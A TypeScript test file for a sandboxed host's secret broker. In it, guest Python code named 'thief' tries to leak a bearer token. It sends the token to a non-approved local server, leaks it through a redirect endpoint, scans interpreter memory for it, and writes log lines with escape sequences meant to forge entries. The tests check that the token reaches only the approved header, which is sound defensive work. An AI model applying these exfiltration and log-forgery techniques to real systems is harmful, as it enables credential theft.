/**
 * Section L of the corpus: secrets. A guest is told where an approved server is, one that is not approved, and what its placeholder
 * is; whatever it tries, the value arrives at the approved origin in the approved header, and nowhere else, and nobody is told of it.
 */
import { Buffer } from 'node:buffer';
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createHost, type Host, type HostOptions } from '../../host/index.ts';
import { Redaction } from '../../host/capabilities/secrets/redaction.ts';
import { formsOf } from '../../host/capabilities/secrets/forms.ts';
import { listen, serve, textOf } from '../capabilities/network/servers.ts';
import { failureOf } from '../support/failure.ts';
import { availableLevels } from '../support/levels.ts';

const folder = path.join(import.meta.dirname, '../fixtures/certificate');
const certificate = readFileSync(path.join(folder, 'certificate.pem'), 'utf8');
const key = readFileSync(path.join(folder, 'key.pem'), 'utf8');

const value = 'canary-secret-7fK/2+x"9Q\\wZ';
const limit = 60_000;

/** What arrived at the servers, all of it, as text. */
const arrived = { approved: [] as string[], other: [] as string[] };

const answer = async (request: IncomingMessage, response: ServerResponse, at: string[]): Promise<void> => {
  const body = await textOf(request);
  at.push([request.method, request.url, ...request.rawHeaders, body].join('\n'));
  const { authorization = '' } = request.headers;
  const { pathname, searchParams } = new URL(request.url ?? '/', 'https://host');
  switch (pathname) {
    case '/redirect':
      return void response.writeHead(307, { location: searchParams.get('to') ?? '' }).end();
    case '/leak':
      return void response.writeHead(302, { location: `${searchParams.get('to')}?key=${encodeURIComponent(authorization)}` }).end();
    case '/bytes':
      // One byte at a time: no chunk holds more of the value than that.
      for (const byte of Buffer.from(`<${authorization}>`))
        if (!response.write(Buffer.of(byte))) await new Promise((drained) => response.once('drain', drained));
      return void response.end();
    case '/reason':
      return void response.writeHead(200, authorization, { 'x-echo': authorization.slice(7), 'set-cookie': `session=${authorization.slice(7)}` }).end();
    case '/hold':
      response.write('first\n');
      held.push(response);
      return;
    default:
      return void response.end(formsOf(authorization).join('\n'));
  }
};
const held: ServerResponse[] = [];

const approved = await listen(createServer({ cert: certificate, key }, (request, response) => void answer(request, response, arrived.approved)));
const other = await listen(createServer({ cert: certificate, key }, (request, response) => void answer(request, response, arrived.other)));
const plain = await serve((request, response) => void answer(request, response, arrived.other));
const places = { approved: approved.origin.replace('http:', 'https:'), other: other.origin.replace('http:', 'https:'), plain: plain.origin };

const policy = {
  network: { allow: [places.approved, places.other, places.plain] },
  secrets: { TOKEN: { to: places.approved, header: 'authorization', format: 'Bearer {}' } },
  limits: { cpu: '5s', wall: '20s' },
} as const;
const options: HostOptions = {
  ceiling: 'unrestricted',
  network: { authorities: [certificate] },
  secrets: { values: { TOKEN: value, UNUSED: 'another-canary-secret' } },
};

/** Everything that anybody was told. */
let told: unknown[] = [];

const manifest = (code: string, rules: object = policy, runtime = 'python') =>
  ({
    vivarium: 1,
    namespace: 'shop',
    actors: { thief: { runtime, code, policy: rules } as never },
    inputs: { in: 'thief' },
    outputs: { out: 'thief' },
  }) as const;

const head = `
import json
from urllib.request import Request, urlopen
from urllib.error import HTTPError

def send(url, headers={}, body=None, method=None):
    try:
        with urlopen(Request(url, body, headers, method=method)) as response:
            return [response.status, response.reason, dict(response.headers), response.read().decode("latin-1")]
    except HTTPError as error:
        return [error.code, error.reason, dict(error.headers), error.read().decode("latin-1")]
    except Exception as error:
        return [type(error).__name__, str(error), repr(error), error.args]
`;

/** Runs what it is sent: one interpreter for all attacks. */
const thief = `${head}
async def handle(message, context):
    scope = {"send": send}
    exec("async def attack(places, context, secret):" + message["body"], scope)
    return await scope["attack"](message["places"], context, context.secrets["TOKEN"])
`;

interface Attack {
  readonly number: number;
  readonly title: string;
  /** The body of a coroutine that knows `places`, `context` and its placeholder `secret`. */
  readonly body: string;
  /** Whether the value comes to the approved server in the approved header. */
  readonly used: boolean;
  /** Looks at what the approved server got. */
  readonly arriving?: (requests: readonly string[]) => void;
}

const attacks: readonly Attack[] = [
  {
    number: 198,
    title: 'environment, config, everything that the interpreter holds, its memory',
    used: true,
    body: `
    import ctypes, gc, os, re
    import pyodide_js
    used = send(places["approved"], {"authorization": "Bearer " + secret})
    seen = [dict(os.environ), context.config, dict(context.env), dict(context.secrets), repr(context), used]
    seen += [text for item in gc.get_objects() if type(item) is dict for text in item.values() if type(text) is str and "live" in text]
    # A pattern that does not match itself.
    pattern = re.compile(rb"canary-secret-[7][\\x20-\\x7e]*")
    known = re.compile(rb"secre[t]-[\\w-]{32}")
    found = False
    step = 1 << 20
    for start in range(1024, pyodide_js._module.HEAPU8.length - 2 * step, step):
        memory = ctypes.string_at(start, step + 64)
        seen += [match.decode() for match in pattern.findall(memory)]
        found = found or known.search(memory) is not None
    # What is there is found: the placeholder is.
    assert found
    return seen`,
  },
  {
    number: 198,
    title: 'errors and stacks of requests that fail with the secret in them',
    used: false,
    body: `
    bearer = {"authorization": "Bearer " + secret}
    return [send(places["approved"] + "/\\x00", bearer), send(places["approved"], bearer | {"host": "x"}), send(places["approved"], bearer, b"x", "CONNECT"), send("https://127.0.0.1:1", bearer)]`,
  },
  {
    number: 199,
    title: 'to another origin, another scheme, another header, another format, twice',
    used: false,
    body: `
    bearer = "Bearer " + secret
    sent = [send(places[to], {"authorization": bearer}) for to in ("other", "plain")]
    for headers in ({"x-authorization": bearer}, {"cookie": bearer}, {"authorization": "Basic " + secret}, {"authorization": bearer + " "+ secret}, {"authorization": "bearer " + secret}, {"authorization": "Bearer " + secret[:-1]}, {"user-agent": secret}):
        sent.append(send(places["approved"], headers))
    return sent`,
  },
  {
    number: 199,
    title: 'in the URL, in the body, in the name of a header',
    used: false,
    body: `
    at = places["approved"]
    return [send(at + "/" + secret + "?" + secret), send(at, {}, secret.encode(), "POST"), send(at, {secret: "x"}), send(at.replace("://", "://x:" + secret + "@"))]`,
  },
  {
    number: 199,
    title: 'by a redirect to another origin, with the header kept',
    used: true,
    body: `
    from pyodide.http import pyfetch
    bearer = {"authorization": "Bearer " + secret}
    seen = []
    for status in ("redirect", "leak"):
        for to in ("other", "plain"):
            response = await pyfetch(places["approved"] + "/" + status + "?to=" + places[to] + "/", headers=bearer)
            seen.append([response.status, response.url, response.headers, await response.text()])
    return seen`,
  },
  {
    number: 199,
    title: 'echoed in every form, in the reason, in headers, byte by byte',
    used: true,
    body: `
    bearer = {"authorization": "Bearer " + secret}
    return [send(places["approved"] + path, bearer) for path in ("/", "/bytes", "/reason")]`,
  },
  {
    number: 199,
    title: 'echoed compressed with what the host does not read, or in parts',
    used: true,
    body: `
    return [send(places["approved"], {"authorization": "Bearer " + secret, "accept-encoding": "zstd", "range": "bytes=0-20"})]`,
    arriving: (requests) => expect(requests.join('\n')).not.toMatch(/zstd|bytes=/),
  },
  {
    number: 200,
    title: 'logged, with what would forge a line',
    used: true,
    body: `
    echo = send(places["approved"], {"authorization": "Bearer " + secret})[3]
    for line in (echo, "\\x1b]52;c;" + echo, "{\\"actor\\":\\"other\\",\\"text\\":\\"" + echo, "\\r" + echo + "\\u2028\\u202e" + echo):
        context.log.info(line)
        print(line)
    return len(echo)`,
  },
];

const levels = await availableLevels();

describe.each(levels)('L, at level %s', (level) => {
  let host: Host;
  beforeAll(async () => {
    host = await createHost({ ...options, sandbox: { minimum: level, maximum: level } });
    for (const name of ['log', 'audit', 'cell', 'execution'] as const) host.on(name, (event) => void told.push(event));
  });
  afterAll(() => host.close());
  beforeEach(() => {
    told = [];
    arrived.approved.length = 0;
    arrived.other.length = 0;
  });

  const demandSecret = (used: boolean): void => {
    const text = JSON.stringify(told);
    for (const form of formsOf(value)) expect(text.includes(form) || text.includes(JSON.stringify(form).slice(1, -1)), `told: ${form}`).toBe(false);
    // What the approved server itself writes into the URL of a redirect, percent-encoded, goes where it says.
    for (const form of formsOf(value).filter((text) => !text.includes('%'))) expect(arrived.other.join('\n'), 'at another origin').not.toContain(form);
    const lines = arrived.approved.join('\n').split('\n');
    const at = lines.flatMap((line, index) => (line.includes(value) ? [[lines[index - 1]?.toLowerCase(), line]] : []));
    expect(
      at.every(([name, line]) => name === 'authorization' && line === `Bearer ${value}`),
      JSON.stringify(at),
    ).toBe(true);
    expect(at.length > 0).toBe(used);
  };

  test.each(attacks)('$number $title', { timeout: limit }, async ({ body, used, arriving }) => {
    const flow = host.flow('shop') ?? (await host.deploy(manifest(thief)));
    const result = await flow.run({ in: { places, body } });
    told.push(result);
    expect(result).toMatchObject({ status: 'completed', errors: [] });
    demandSecret(used);
    arriving?.(arrived.approved);
  });

  test('205 the placeholder of an earlier deployment, and what an earlier instance held open', { timeout: limit }, async () => {
    const code = `${head}
from vivarium import _call_now, network
kept = None
def handle(message, context):
    global kept
    if message["do"] == "open":
        kept = network.now(network.request(network.Blocking(), "GET", message["at"] + "/hold"))
        return [context.secrets["TOKEN"], kept._handle]
    if message["do"] == "read":
        return _call_now(-1, "network", "read", {"response": message["handle"], "length": 10})
    if message["do"] == "use":
        return send(message["at"], {"authorization": "Bearer " + message["secret"]})[0]
    if message["do"] == "die":
        while True: pass
`;
    const first = await host.deploy(manifest(code, { ...policy, limits: { cpu: '1s', wall: '10s' } }));
    const [secret, handle] = (await first.ask('in', { do: 'open', at: places.approved })) as [string, number];
    expect(Buffer.from((await first.ask('in', { do: 'read', handle })) as Uint8Array).toString()).toBe('first\n');
    await failureOf(() => first.ask('in', { do: 'die' }));
    // A fresh instance of the same deployment: what the other held open is gone.
    expect(await failureOf(() => first.ask('in', { do: 'read', handle }))).toMatchObject({ code: expect.stringMatching(/actor.failed|network.failed/) });
    expect(arrived.approved.join('\n')).not.toContain(value);
    const second = await host.deploy(manifest(code));
    expect(await second.ask('in', { do: 'use', secret, at: places.approved })).toBe(200);
    demandSecret(false);
    await second.stop();
    for (const response of held.splice(0)) response.end();
  });

  test('206 a policy that is tightened while a request is under way', { timeout: limit }, async () => {
    const code = `${head}
def handle(message, context):
    return send(message["at"] + message["path"], {"authorization": "Bearer " + (message.get("secret") or context.secrets["TOKEN"])})
def placeholder(message, context):
    return context.secrets["TOKEN"]
`;
    const loose = await host.deploy({ ...manifest(code), inputs: { in: 'thief', placeholder: 'thief.placeholder' } });
    const secret = await loose.ask('placeholder', null);
    const waiting = loose.run({ in: { at: places.approved, path: '/hold' } });
    await expect.poll(() => held.length, { timeout: limit }).toBe(1);
    const { secrets: _, ...rest } = policy;
    const tight = host.deploy(manifest(code, rest));
    for (const response of held.splice(0)) response.end();
    told.push(await waiting);
    const flow = await tight;
    arrived.approved.length = 0;
    expect(await flow.ask('in', { at: places.approved, path: '/', secret })).toEqual(expect.arrayContaining([200]));
    expect(arrived.approved).toHaveLength(1);
    demandSecret(false);
    await flow.stop();
  });
});

describe('L, controls', () => {
  const placeholder = 'secret-placeholder';

  test('199 a broker that replaces a placeholder wherever it stands sends the value to anybody', () => {
    const naive = (text: string): string => text.replaceAll(placeholder, value);
    for (const sent of [`GET /?${placeholder}`, `cookie: ${placeholder}`, placeholder]) expect(naive(sent)).toContain(value);
  });

  test('199 a redaction that looks at each chunk alone lets the value pass', () => {
    const redaction = new Redaction(new Map([['TOKEN', value]]));
    const chunks = [...value];
    expect(chunks.map((chunk) => redaction.text(chunk)).join('')).toBe(value);
    const stream = redaction.stream();
    const passed = [...chunks.map((chunk) => stream?.push(Buffer.from(chunk))), stream?.end()].map((bytes) => Buffer.from(bytes ?? []).toString()).join('');
    expect(passed).toBe('[secret TOKEN]');
  });
});
